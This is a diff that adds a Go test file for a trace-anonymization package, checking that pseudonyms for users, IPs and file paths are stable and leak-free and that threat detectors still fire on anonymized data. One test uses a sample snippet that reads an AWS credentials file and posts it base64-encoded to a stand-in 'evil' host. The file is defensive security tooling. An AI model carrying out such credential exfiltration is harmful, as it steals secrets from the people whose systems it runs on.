@@ -1,0 +1,170 @@
+package anonymize
+
+import (
+	"strings"
+	"testing"
+
+	"repro/internal/core"
+	"repro/internal/trace"
+	"repro/internal/workload"
+)
+
+func TestPseudonymsStableAndKeyed(t *testing.T) {
+	a := New([]byte("site-key"))
+	if a.User("alice") != a.User("alice") {
+		t.Fatal("pseudonym unstable")
+	}
+	if a.User("alice") == a.User("bob") {
+		t.Fatal("pseudonym collision")
+	}
+	b := New([]byte("other-site-key"))
+	if a.User("alice") == b.User("alice") {
+		t.Fatal("pseudonyms identical across keys (unkeyed hash?)")
+	}
+}
+
+func TestPseudonymsHideIdentity(t *testing.T) {
+	a := New([]byte("site-key"))
+	for _, id := range []string{"alice", "203.0.113.66"} {
+		p := a.User(id)
+		if strings.Contains(p, id) {
+			t.Errorf("pseudonym %q leaks identity %q", p, id)
+		}
+	}
+	if p := a.IP("203.0.113.66"); strings.Contains(p, "203.0.113.66") || strings.Contains(p, "113") {
+		t.Errorf("IP pseudonym leaks: %q", p)
+	}
+}
+
+func TestIPScopePreserved(t *testing.T) {
+	a := New([]byte("k"))
+	cases := map[string]string{
+		"127.0.0.1":    "loop-",
+		"10.3.2.1":     "site-",
+		"203.0.113.66": "pub-",
+	}
+	for ip, prefix := range cases {
+		if p := a.IP(ip); !strings.HasPrefix(p, prefix) {
+			t.Errorf("IP(%s) = %q, want prefix %q", ip, p, prefix)
+		}
+	}
+}
+
+func TestPathKeepsStructure(t *testing.T) {
+	a := New([]byte("k"))
+	p := a.Path("notebooks/secret_project_x.ipynb")
+	if !strings.HasPrefix(p, "notebooks/") || !strings.HasSuffix(p, ".ipynb") {
+		t.Fatalf("path shape lost: %q", p)
+	}
+	if strings.Contains(p, "secret_project") {
+		t.Fatalf("basename leaked: %q", p)
+	}
+	// Same path -> same pseudonym (file identity correlates).
+	if a.Path("notebooks/secret_project_x.ipynb") != p {
+		t.Fatal("path pseudonym unstable")
+	}
+}
+
+func TestCodeReducedToFeatures(t *testing.T) {
+	a := New([]byte("k"))
+	src := `data = read_file("secrets/.aws_credentials")
+http_post("http://evil", b64encode(data))`
+	f := a.Code(src)
+	if !f.Parsed || f.Length != len(src) {
+		t.Fatalf("features = %+v", f)
+	}
+	joined := strings.Join(f.Calls, ",")
+	for _, want := range []string{"b64encode", "http_post", "read_file"} {
+		if !strings.Contains(joined, want) {
+			t.Errorf("calls missing %s: %v", want, f.Calls)
+		}
+	}
+	// Same payload -> same hash (campaign correlation works).
+	if a.Code(src).Hash != f.Hash {
+		t.Fatal("code hash unstable")
+	}
+}
+
+func TestEventAnonymization(t *testing.T) {
+	a := New([]byte("k"))
+	e := trace.Event{
+		Kind: trace.KindExec, User: "mallory", SrcIP: "203.0.113.66",
+		Session: "sess-1", Code: `read_file("data/x.csv")`,
+		Detail: "error mentioning /home/mallory",
+	}
+	out := a.Event(e)
+	if out.User == "mallory" || out.SrcIP == "203.0.113.66" ||
+		out.Session != "" || out.Code != "" || out.Detail != "" {
+		t.Fatalf("identifying fields survived: %+v", out)
+	}
+	if out.Field("code_hash") == "" || out.Field("code_calls") == "" {
+		t.Fatalf("code features missing: %+v", out.Fields)
+	}
+	// Original untouched (Clone semantics).
+	if e.User != "mallory" {
+		t.Fatal("original mutated")
+	}
+}
+
+// TestDetectionSurvivesAnonymization is the point of the design: the
+// shared dataset must still be useful for security research. Behaviour
+// detectors (entropy bursts, auth failures, resource abuse) must fire
+// on the anonymized trace as they do on the raw one.
+func TestDetectionSurvivesAnonymization(t *testing.T) {
+	tr := workload.StandardMix(7, 300)
+	a := New([]byte("site-key"))
+	anon := a.Dataset(tr.Events)
+
+	eng := core.MustEngine()
+	for _, e := range anon {
+		eng.Process(e)
+	}
+	byClass := eng.IncidentsByClass()
+	// Behavioural classes detectable without raw code/identities.
+	for _, class := range []string{
+		"ransomware", "data_exfiltration", "cryptomining",
+		"account_takeover", "denial_of_service",
+	} {
+		if len(byClass[class]) == 0 {
+			t.Errorf("class %s lost under anonymization", class)
+		}
+	}
+	// Source-signature classes (raw code regexes) are expected to
+	// degrade — that is the documented sharing trade-off. Verify the
+	// trade-off is real: raw trace fires zero_day, anonymized doesn't.
+	rawEng := core.MustEngine()
+	for _, e := range tr.Events {
+		rawEng.Process(e)
+	}
+	if len(rawEng.IncidentsByClass()["zero_day"]) == 0 {
+		t.Fatal("raw trace should flag zero_day")
+	}
+}
+
+func TestDatasetLeakScan(t *testing.T) {
+	tr := workload.StandardMix(3, 200)
+	a := New([]byte("site-key"))
+	anon := a.Dataset(tr.Events)
+	secrets := []string{"alice", "bob", "carol", "dave", "mallory", "203.0.113.66", "198.51.100.9"}
+	for i, e := range anon {
+		for _, s := range secrets {
+			for _, field := range []string{e.User, e.SrcIP, e.Code, e.Detail, e.Target} {
+				if strings.Contains(field, s) {
+					t.Fatalf("event %d leaks %q in %q", i, s, field)
+				}
+			}
+		}
+	}
+}
+
+func TestReport(t *testing.T) {
+	a := New([]byte("k"))
+	a.User("u1")
+	a.User("u2")
+	a.User("u1")
+	a.IP("10.0.0.1")
+	r := a.Report()
+	if r.Users != 2 || r.Hosts != 1 {
+		t.Fatalf("report = %+v", r)
+	}
+}
